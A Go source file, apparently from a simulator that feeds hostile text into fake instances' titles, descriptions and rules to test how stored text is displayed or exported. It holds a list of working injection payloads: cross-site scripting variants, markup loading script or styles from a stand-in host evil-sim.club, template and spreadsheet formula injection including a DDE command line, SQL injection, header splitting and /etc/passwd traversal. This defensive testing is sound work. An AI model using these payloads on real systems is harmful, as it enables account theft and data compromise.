package sim

import "strings"

// hostileTexts are attacks on whoever stores, shows or exports a text: markup in
// every disguise, template and spreadsheet formulas, terminal and bidirectional
// control characters, look-alikes, and sheer length.
var hostileTexts = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil-sim.club/x.js></sCrIpT>`,
	`"><img src=x onerror=alert(1)>`,
	`'-alert(1)-'`,
	`</title></textarea></style></script><svg/onload=alert(1)>`,
	`<a href="javascript:alert(1)">free accounts</a>`,
	`<a href="&#106;avascript:alert(1)">more</a>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form action=https://evil-sim.club><button>Sign in</button></form>`,
	`<style>@import url(https://evil-sim.club/x.css);body{display:none}</style>`,
	`<meta http-equiv="refresh" content="0;url=https://evil-sim.club">`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %>`,
	`=HYPERLINK("https://evil-sim.club";"Click")`,
	`=cmd|' /C calc'!A0`, "+1+1", "@SUM(1,1)", "\t=1+1", "-2+3",
	"\x1b[31mred\x1b[0m \x1b]0;title\x07",
	"\u202egnp.exe\u202c right to left",
	"\u2066\u2067isolates\u2069 \u200b\u200c\u200dzero\ufeff width",
	"new\r\nline\r\nSet-Cookie: evil=1",
	"nul\x00byte, \x01\x02\x7f controls, \u0085 next line, \u2028 line \u2029 paragraph",
	"раураӏ mastоdоn.sосiаl", // Cyrillic look-alikes
	"Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
	"'; DROP TABLE instances; --",
	"%00%0d%0a../../etc/passwd",
	"\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F \U0001F468\u200d\U0001F469\u200d\U0001F467",
	"﷽﷽﷽ \u115f\u3164\u2800 blank",
}

// poison puts attacks into every text, each instance others.
func (in *instance) poison(t *texts) {
	c := in.chance(forHostileText)
	t.title = pick(c, hostileTexts)
	t.description = pick(c, hostileTexts) + " " + pick(c, hostileTexts)
	t.extended = "<p>" + pick(c, hostileTexts) + "</p><div onclick=alert(1)>" + pick(c, hostileTexts) + "</div>"
	t.rules = []rule{{pick(c, hostileTexts), pick(c, hostileTexts)}, {pick(c, hostileTexts), ""}}
	if c.hit(0.3) {
		t.description += strings.Repeat(" very long", 20_000)
	}
	t.languages = []string{"en", "dog", "<b>", "x-klingon", "EN-gb", ""}
}
